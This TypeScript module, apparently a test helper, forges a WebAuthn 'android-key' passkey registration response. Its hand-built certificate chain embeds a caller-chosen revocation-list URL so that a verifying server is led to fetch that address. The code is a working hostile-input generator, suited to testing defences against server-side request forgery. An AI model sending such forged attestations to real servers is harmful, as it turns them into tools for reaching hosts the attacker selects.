/**
 * A new passkey whose attestation names an address: an `android-key` statement (WebAuthn L3 §8.4) with
 * certificates of the attacker's own making, right in every respect, that say where to ask whether they
 * were revoked. Whoever checks it goes there.
 */
import { createHash, generateKeyPairSync, sign } from 'node:crypto'
import type { KeyObject } from 'node:crypto'
import { isoCBOR } from '@simplewebauthn/server/helpers'

const ECDSA_WITH_SHA256 = '2a8648ce3d040302'
const COMMON_NAME = '550403'
const REVOCATION_LISTS = '551d1f'
const KEY_DESCRIPTION = '2b06010401d679020111'

/** What a browser would answer to these options, were it the attacker's. */
export function hostileAttestation(
  { challenge, rp }: { challenge: string; rp: { id?: string } },
  { origin, revocationList }: { origin: string; revocationList: string },
) {
  const authority = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const clientData = JSON.stringify({ type: 'webauthn.create', challenge, origin })
  const statement = new Map<string, unknown>([
    ['alg', -7],
    ['sig', new Uint8Array(8)],
    [
      'x5c',
      [
        certificate('leaf', publicKey, authority.privateKey, [
          extension(KEY_DESCRIPTION, keyDescription(sha256(clientData))),
          extension(REVOCATION_LISTS, revocationLists(revocationList)),
        ]),
        certificate('authority', authority.publicKey, authority.privateKey, []),
      ],
    ],
  ])
  const id = sha256(clientData)
  const attestation = new Map<string, unknown>([
    ['fmt', 'android-key'],
    ['attStmt', statement],
    ['authData', new Uint8Array(authenticatorData(rp.id ?? '', id, publicKey))],
  ])
  const encoded = isoCBOR.encode(attestation as Parameters<typeof isoCBOR.encode>[0])
  return {
    id: id.toString('base64url'),
    rawId: id.toString('base64url'),
    type: 'public-key',
    clientExtensionResults: {},
    response: {
      clientDataJSON: Buffer.from(clientData).toString('base64url'),
      attestationObject: Buffer.from(encoded).toString('base64url'),
      transports: [],
    },
  }
}

function authenticatorData(rpId: string, id: Buffer, publicKey: KeyObject): Buffer {
  const { x = '', y = '' } = publicKey.export({ format: 'jwk' })
  const coseKey = new Map<number, number | Uint8Array>([
    [1, 2],
    [3, -7],
    [-1, 1],
    [-2, new Uint8Array(Buffer.from(x, 'base64url'))],
    [-3, new Uint8Array(Buffer.from(y, 'base64url'))],
  ])
  const flagsAndCount = Buffer.of(0x45, 0, 0, 0, 0)
  const head = [Buffer.alloc(16), Buffer.of(0, id.length), id]
  return Buffer.concat([sha256(rpId), flagsAndCount, ...head, isoCBOR.encode(coseKey)])
}

/** RFC 5280 §4.1, signed by `authority`. */
function certificate(
  subject: string,
  publicKey: KeyObject,
  authority: KeyObject,
  extensions: readonly Buffer[],
): Uint8Array {
  const algorithm = sequence(oid(ECDSA_WITH_SHA256))
  const body = sequence(
    der(0xa0, der(0x02, Buffer.of(2))),
    der(0x02, Buffer.of(1)),
    algorithm,
    nameOf('authority'),
    // From the year 2000 to the end of 2049.
    sequence(utcTime('000101000000Z'), utcTime('491231235959Z')),
    nameOf(subject),
    publicKey.export({ type: 'spki', format: 'der' }),
    ...(extensions.length === 0 ? [] : [der(0xa3, sequence(...extensions))]),
  )
  const signature = der(0x03, Buffer.of(0), sign('sha256', body, authority))
  return new Uint8Array(sequence(body, algorithm, signature))
}

/** As Android's key store has it: versions and levels, the challenge, and nothing else. */
function keyDescription(challenge: Buffer): Buffer {
  const [version, level] = [der(0x02, Buffer.of(3)), der(0x0a, Buffer.of(1))]
  const parts = [version, level, version, level, der(0x04, challenge), der(0x04)]
  return sequence(...parts, sequence(), sequence())
}

function revocationLists(url: string): Buffer {
  return sequence(sequence(der(0xa0, der(0xa0, der(0x86, Buffer.from(url))))))
}

function extension(id: string, value: Buffer): Buffer {
  return sequence(oid(id), der(0x04, value))
}

function nameOf(name: string): Buffer {
  return sequence(der(0x31, sequence(oid(COMMON_NAME), der(0x0c, Buffer.from(name)))))
}

function utcTime(text: string): Buffer {
  return der(0x17, Buffer.from(text))
}

function oid(hex: string): Buffer {
  return der(0x06, Buffer.from(hex, 'hex'))
}

function sequence(...parts: readonly Buffer[]): Buffer {
  return der(0x30, ...parts)
}

/** X.690 §8.1, with lengths below 65,536. */
function der(tag: number, ...parts: readonly Buffer[]): Buffer {
  const { length } = Buffer.concat(parts)
  const size = length < 128 ? [length] : [0x82, length >> 8, length & 0xff]
  return Buffer.concat([Buffer.of(tag, ...size), ...parts])
}

function sha256(data: string): Buffer {
  return createHash('sha256').update(data).digest()
}
